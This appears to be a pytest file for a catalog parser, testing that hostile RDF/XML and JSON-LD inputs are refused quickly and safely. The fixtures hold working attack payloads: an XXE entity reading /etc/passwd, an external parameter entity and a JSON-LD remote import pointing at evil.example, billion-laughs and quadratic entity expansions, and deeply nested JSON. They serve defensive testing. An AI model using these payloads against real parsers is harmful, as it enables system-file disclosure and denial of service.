"""Hostile XML and JSON-LD: nothing is read from disk or the network, nothing explodes."""

from __future__ import annotations

import time

import pytest

from catalog.parse import CatalogParseError, parse_catalog
from catalog.xml_safety import UnsafeXmlError, check_xml_safety

RDF_OPEN = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dct="http://purl.org/dc/terms/" '
    'xmlns:dcat="http://www.w3.org/ns/dcat#">'
)


def rdfxml(doctype: str, title: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n{doctype}\n{RDF_OPEN}<dcat:Dataset rdf:about="https://x.example/d">'
        f"<dct:title>{title}</dct:title><dct:description>d</dct:description></dcat:Dataset></rdf:RDF>"
    ).encode()


XXE = rdfxml('<!DOCTYPE rdf:RDF [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;")
PARAMETER = rdfxml('<!DOCTYPE rdf:RDF [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>', "t")
LAUGHS = rdfxml(
    '<!DOCTYPE rdf:RDF [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    + "]>",
    "&lol9;",
)
QUADRATIC = rdfxml(f'<!DOCTYPE rdf:RDF [<!ENTITY big "{"x" * 50_000}">]>', "&big;" * 2_000)


@pytest.mark.parametrize(
    "document", [XXE, PARAMETER, LAUGHS, QUADRATIC], ids=["xxe", "parameter", "laughs", "quadratic"]
)
def test_dangerous_entities_are_refused_quickly(document: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(CatalogParseError, match="refused"):
        parse_catalog(document, "application/rdf+xml")
    assert time.monotonic() - started < 1


def test_xxe_never_reads_the_file_even_when_sniffed_as_something_else() -> None:
    with pytest.raises(CatalogParseError) as caught:
        parse_catalog(XXE, "text/turtle")
    assert "root:" not in str(caught.value)


def test_utf16_does_not_hide_entity_declarations() -> None:
    with pytest.raises(CatalogParseError, match="refused"):
        parse_catalog(LAUGHS.decode().encode("utf-16"), None)


def test_plain_internal_entities_used_as_namespace_abbreviations_are_allowed() -> None:
    document = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [<!ENTITY dct "http://purl.org/dc/terms/">]>\n'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dct="&dct;" '
        b'xmlns:dcat="http://www.w3.org/ns/dcat#"><dcat:Dataset rdf:about="https://x.example/d">'
        b"<dct:title>Bees</dct:title><dct:description>Counted.</dct:description></dcat:Dataset></rdf:RDF>"
    )
    check_xml_safety(document)
    assert parse_catalog(document).datasets[0].record.titles[0].text == "Bees"


def test_unclosed_entity_declaration_is_refused() -> None:
    with pytest.raises(UnsafeXmlError):
        check_xml_safety(b'<!DOCTYPE x [<!ENTITY a "b"')


def test_deeply_nested_jsonld_is_an_error_not_a_crash() -> None:
    document = (
        b'{"@id": "https://x.example/d", "https://x.example/p": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    )
    with pytest.raises(CatalogParseError):
        parse_catalog(document, "application/ld+json")


def test_jsonld_import_of_a_remote_context_is_refused() -> None:
    document = b'{"@context": {"@import": "https://evil.example/ctx"}, "@id": "https://x.example/d"}'
    with pytest.raises(CatalogParseError, match="not fetched"):
        parse_catalog(document, "application/ld+json")
